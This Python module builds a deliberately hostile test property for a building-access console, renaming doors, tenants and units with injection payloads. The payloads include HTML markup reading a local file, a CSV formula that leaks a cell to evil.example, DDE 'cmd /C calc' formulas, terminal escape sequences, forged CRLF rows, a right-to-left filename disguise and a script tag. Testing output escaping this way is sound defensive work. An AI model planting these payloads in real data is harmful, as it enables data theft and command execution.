"""A hostile property: the same buildings, doors and people, renamed by someone malicious.

Anyone with portal access can name a door, a panel, a unit or a pass whatever they like, and
a tenant can name themselves. These names are what a console must show as plain, inert text:
markup a label would render (an image that reads a local file, a link), spreadsheet formulas
that run when an exported CSV is opened, terminal escape sequences that clear the screen or
retitle the window, carriage returns and line feeds that forge table rows, a bell, a NUL,
right-to-left overrides that reverse what follows, and names far longer than any field.

``python -m bmx_console.sim --hostile`` serves it; ``Cloud(hostile=True)`` makes it in tests.
Ids, relations and everything else stay as the normal seed makes them.
"""

from __future__ import annotations

from collections.abc import Callable
from itertools import cycle
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from bmx_console.sim.seed import Property

LONG_NAME_LENGTH = 500

# Each takes the ordinary name, so that a test (or a person) can still tell records apart.
TEMPLATES: tuple[Callable[[str], str], ...] = (
    lambda n: f'<img src="file:///etc/hosts">{n}',
    lambda n: f'<a href="https://evil.example/login">{n}</a>',
    lambda n: f"<b style=color:red>{n}</b>",
    lambda n: f'=HYPERLINK("https://evil.example/?leak="&A1,"{n}")',
    lambda n: f"+cmd|' /C calc'!A0 {n}",
    lambda n: f"@SUM(1+1)*cmd|' /C calc'!A0 {n}",
    lambda n: f"-1+1 {n}",
    lambda n: f"\x1b[2J\x1b[H\x1b[31m{n}\x1b[0m",
    lambda n: f"\x1b]0;door released\x07{n}",
    lambda n: f"{n}\r\nRELEASED  all doors",
    lambda n: f"{n}\x07\x00\x7f",
    lambda n: f"\u202e{n} gpj.exe",
    lambda n: f"\x9b31m{n}\x9b0m\u2028\u2066x\u2069",
    lambda n: (n + " " + "W" * LONG_NAME_LENGTH)[:LONG_NAME_LENGTH],
)


def make_hostile(prop: Property) -> None:
    """Rename, in place, every building, door, panel, tenant, unit and pass of ``prop``."""
    names = cycle(TEMPLATES)

    def hostile(name: str) -> str:
        return next(names)(name)

    # Buildings are few: theirs start at the control characters, so that they get some.
    building_names = cycle(TEMPLATES[7:])
    buildings: dict[int, str] = {}
    for building in prop.buildings:
        building["name"] = next(building_names)(building["name"])
        buildings[building["id"]] = building["name"]
    for record in (*prop.doors, *prop.panels, *prop.keychains):
        record["name"] = hostile(record["name"])
    for key in prop.virtual_keys:
        key["name"] = hostile(key["name"])
    desks = set(prop.front_desk.values())
    labels: dict[int, str] = {}
    for tenant in prop.tenants:
        if tenant["id"] in desks:
            # The front desk keeps "Front Desk" in its name, so that the console still finds
            # the placeholder tenant it releases as; what follows is as hostile as the rest.
            tenant["last_name"] += " <script>alert(1)</script>\x1b[5m"
        else:
            tenant["first_name"] = hostile(tenant["first_name"])
            tenant["last_name"] = hostile(tenant["last_name"])
        tenant["building_name"] = buildings.get(tenant["building_id"], tenant["building_name"])
        unit = tenant.get("unit")
        if isinstance(unit, dict):
            # Tenants of one household hold copies of one unit: the same label for all.
            if unit["id"] not in labels:
                labels[unit["id"]] = hostile(str(unit["label"]))
            unit["label"] = labels[unit["id"]]
